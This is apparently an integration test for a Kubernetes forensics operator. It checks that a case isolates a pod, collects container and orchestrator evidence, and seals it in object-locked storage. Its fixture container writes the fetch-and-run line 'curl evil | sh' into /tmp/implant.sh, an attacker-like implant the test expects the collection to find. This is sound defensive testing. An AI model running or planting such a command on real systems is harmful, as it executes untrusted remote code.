import { PatchStrategy, setHeaderOptions } from '@kubernetes/client-node';
import type { Counter } from 'prom-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GROUP, VERSION } from '../../../src/api/common.js';
import { loadVerificationKey } from '../../../src/evidence/keys.js';
import { MANIFEST_NAME, openManifest } from '../../../src/evidence/manifest.js';
import { AMBER_VERSION } from '../../../src/evidence/tool.js';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { verifyCase } from '../../../src/evidence/verify.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { installCrds } from '../../testenv/crds.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import { startCaseController } from '../../testenv/operator.js';
import { OPERATOR_USER, operatorKubeConfig } from '../../testenv/rbac.js';
import { startContainer, type TestContainer } from '../../testenv/runc.js';
import { waitFor } from '../../testenv/wait.js';
import { Workloads, type CaseView } from '../../testenv/workload.js';
import { createPod, createSigningKeySecret, markRunning, objectVersions } from './helpers.js';

type SealedView = CaseView & {
  status?: CaseView['status'] & {
    manifest?: { uri: string; sha256: string };
    artifacts?: { name: string; sha256: string }[];
  };
};

/**
 * Inline collection end to end: a real API server, MinIO with Object Lock and a real runc
 * container on this machine. The Node has no kwok annotation (nothing fakes it) and the test
 * writes the pod's status as the kubelet would, its containerID naming the runc container.
 */
describe('inline collection: contained -> collected -> sealed', () => {
  let cluster: Cluster;
  let minio: Minio;
  let c: TestContainer;
  let w: Workloads;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;
  const node = 'node-real';
  const store = () =>
    new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
  const caseSpec = (pod: string) => ({
    target: { namespace: 'shop', pod },
    reason: 'test: file dropped in /tmp',
    alert: {
      rule: 'Drop and execute new binary in container',
      priority: 'Critical',
      time: '2026-11-23T03:39:44.834631763Z',
      source: 'syscall',
    },
    evidence: {
      store: { type: 's3', bucket: minio.bucket, endpoint: minio.endpoint, prefix: 'amber/' },
      retention: { mode: 'GOVERNANCE', days: 1 },
    },
  });
  const startOperator = async (afterStep?: (s: string) => void) =>
    startCaseController(await operatorKubeConfig(cluster), {
      afterStep,
      retryBaseDelayMs: afterStep ? 600_000 : undefined,
      collection: {
        mode: 'inline',
        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
        // The sandbox hides PID 1's namespaces: this test process stands for the host.
        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
      },
    });

  beforeAll(async () => {
    [cluster, minio, c] = await Promise.all([
      startCluster(),
      startMinio(),
      // Attacker-like: drops a script in /tmp and keeps running.
      startContainer({
        command: [
          '/bin/sh',
          '-c',
          'printf "curl evil | sh\\n" > /tmp/implant.sh; touch /ready; exec sleep 600',
        ],
      }),
    ]);
    await c.waitForFile('/ready');
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    w = new Workloads(admin);
    await w.core.createNode({
      body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } },
    });
    await w.namespace('shop');
    await w.core.createNamespacedServiceAccount({ namespace: 'shop', body: { metadata: { name: 'web' } } });
    await operatorKubeConfig(cluster); // the operator namespace and RBAC, before the Secret
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    for (const pod of ['victim', 'victim-crash']) {
      await createPod(admin, 'shop', pod, node, { serviceAccountName: 'web' });
      await markRunning(admin, 'shop', pod, `runc://${c.id}`);
    }
  });
  afterAll(async () => {
    await operator?.stop();
    await c?.stop();
    await minio?.stop();
    await cluster?.stop();
  });

  it('seals the container and the orchestrator view; verify passes; the dropped file is there', async () => {
    operator = await startOperator();
    const started = Date.now();
    await w.createCase('case-inline', caseSpec('victim'));
    const kase = (await w.waitForPhase('case-inline', 'Sealed', 90_000)) as SealedView;
    console.log(`inline: ForensicCase created -> Sealed in ${((Date.now() - started) / 1000).toFixed(2)} s`);

    const actions = (kase.status?.timeline ?? []).map((e) => e.action);
    expect(actions).toEqual([
      'IsolateNetwork',
      'LabelPod',
      'ContainNode',
      'CollectOrchestrator',
      'CollectEvidence',
      'SealEvidence',
    ]);
    const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
    expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
    expect(collected?.message).toMatch(/^1 of 1 containers collected/);

    const s = store();
    const location = s.caseLocation('case-inline');
    const report = await verifyCase(location, {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(report.artifacts.filter((a) => a.status !== 'ok')).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.manifest.case).toMatchObject({ id: 'case-inline', namespace: 'shop', pod: 'victim', node });

    const names = (kase.status?.artifacts ?? []).map((a) => a.name);
    const short = c.id.slice(0, 12);
    for (const n of [
      'pod.yaml',
      'events.yaml',
      'serviceaccount.yaml',
      'rbac.yaml',
      'node.yaml',
      'alerts.json',
      'report.json',
    ])
      expect(names).toContain(`orchestrator/${n}`);
    for (const n of [
      'processes.json',
      'network.json',
      'filesystem/diff.json',
      'filesystem/writable-layer.tar',
      'report.json',
    ])
      expect(names).toContain(`containers/${short}/${n}`);
    expect(names).not.toContain(MANIFEST_NAME);

    const diff = await readText(s, 'case-inline', `containers/${short}/filesystem/diff.json`);
    expect(JSON.parse(diff).changes).toEqual(
      expect.arrayContaining([expect.objectContaining({ path: '/tmp/implant.sh', kind: 'A' })]),
    );
    const alerts = JSON.parse(await readText(s, 'case-inline', 'orchestrator/alerts.json')) as {
      triggering: { rule: string; time: string };
    };
    expect(alerts.triggering).toMatchObject({
      rule: 'Drop and execute new binary in container',
      time: '2026-11-23T03:39:44.834631763Z',
    });
    const podYaml = await readText(s, 'case-inline', 'orchestrator/pod.yaml');
    expect(podYaml).toContain(`runc://${c.id}`);
    expect(podYaml).toContain('forensics.amber.io/quarantined'); // as read at collection time, after containment
    // No kubelet serves this node's logs: the gap is recorded, the rest went on.
    const orch = JSON.parse(await readText(s, 'case-inline', 'orchestrator/report.json')) as {
      gaps: { what: string }[];
    };
    expect(orch.gaps.map((g) => g.what)).toContain('logs of main (current)');

    const manifest = (await s.list('case-inline')).find((a) => a.name === MANIFEST_NAME);
    expect(kase.status?.manifest).toEqual({
      uri: manifest?.uri,
      sha256: manifest?.sha256,
      versionId: manifest?.versionId,
    });
    expect(report.manifest.complete).toBe(true);
    expect(report.manifest.findings ?? []).toEqual([]);
    // The chain of custody: the operator as the API server knows it, the tool, its version, zoned times.
    const opened = openManifest(
      await readText(s, 'case-inline', MANIFEST_NAME),
      loadVerificationKey(publicKeyPem),
    );
    const custody = opened.statement?.predicate.custody ?? [];
    expect(custody.map((c) => c.step)).toEqual(
      expect.arrayContaining(['IsolateNetwork', 'CollectOrchestrator', 'collect container main', 'seal']),
    );
    for (const c of custody) {
      expect(c.actor).toEqual({ kind: 'operator', name: OPERATOR_USER });
      expect(c.tool.version).toBe(AMBER_VERSION);
      expect(c.tool.name).toBe(c.step.startsWith('collect container') ? 'amber collect' : 'amber operator');
      expect(c.finishedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    }
    const sealedArtifact = opened.statement?.predicate.artifacts.find(
      (a) => a.name === 'orchestrator/pod.yaml',
    );
    expect(sealedArtifact).toMatchObject({
      bucket: minio.bucket,
      key: 'amber/case-inline/orchestrator/pod.yaml',
      versionId: expect.any(String),
      retainUntil: expect.any(String),
    });
    expect(opened.statement?.predicate.case).toMatchObject({
      containers: [expect.objectContaining({ id: c.id, runtime: 'runc' })],
    });
  });

  it('a pass after Sealed writes nothing new', async () => {
    const before = await objectVersions(minio.client(), minio.bucket, 'amber/case-inline/');
    const passes = async () =>
      (await (operator.registry.getSingleMetric('amber_reconcile_total') as Counter).get()).values.reduce(
        (n, v) => n + v.value,
        0,
      );
    const seen = await passes();
    await w.custom.patchClusterCustomObject(
      {
        group: GROUP,
        version: VERSION,
        plural: 'forensiccases',
        name: 'case-inline',
        body: { metadata: { annotations: { poke: '1' } } },
      },
      setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
    );
    await waitFor('another reconcile pass', passes, (n) => n > seen);
    expect(await objectVersions(minio.client(), minio.bucket, 'amber/case-inline/')).toEqual(before);
    expect(((await w.getCase('case-inline')) as SealedView).status?.phase).toBe('Sealed');
  });

  it('a crash between the manifest upload and the status write: the next operator finishes with the same manifest', async () => {
    await operator.stop();
    let crashed = false;
    const doomed = await startOperator((step) => {
      if (step === 'seal' && !crashed) {
        crashed = true;
        throw new Error('simulated crash after the manifest upload');
      }
    });
    await w.createCase('case-crash', caseSpec('victim-crash'));
    await waitFor(
      'crash at seal',
      async () => crashed,
      (x) => x,
      90_000,
    );
    await doomed.stop();
    const afterCrash = await w.getCase('case-crash');
    expect(afterCrash.status?.phase).not.toBe('Sealed');
    const manifestVersions = () =>
      objectVersions(minio.client(), minio.bucket, `amber/case-crash/${MANIFEST_NAME}`);
    const first = await manifestVersions();
    expect(first).toHaveLength(1);

    operator = await startOperator();
    const kase = (await w.waitForPhase('case-crash', 'Sealed', 90_000)) as SealedView;
    expect(await manifestVersions()).toEqual(first);
    const manifest = (await store().list('case-crash')).find((a) => a.name === MANIFEST_NAME);
    expect(kase.status?.manifest?.sha256).toBe(manifest?.sha256);
    expect(kase.status?.conditions?.find((x) => x.type === 'EvidenceSealed')?.message).toMatch(
      /sealed by an earlier pass/,
    );
    expect((kase.status?.timeline ?? []).filter((e) => e.action === 'SealEvidence')).toHaveLength(1);
  });
});

async function readText(store: S3EvidenceStore, caseId: string, name: string): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of await store.get(caseId, name)) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}
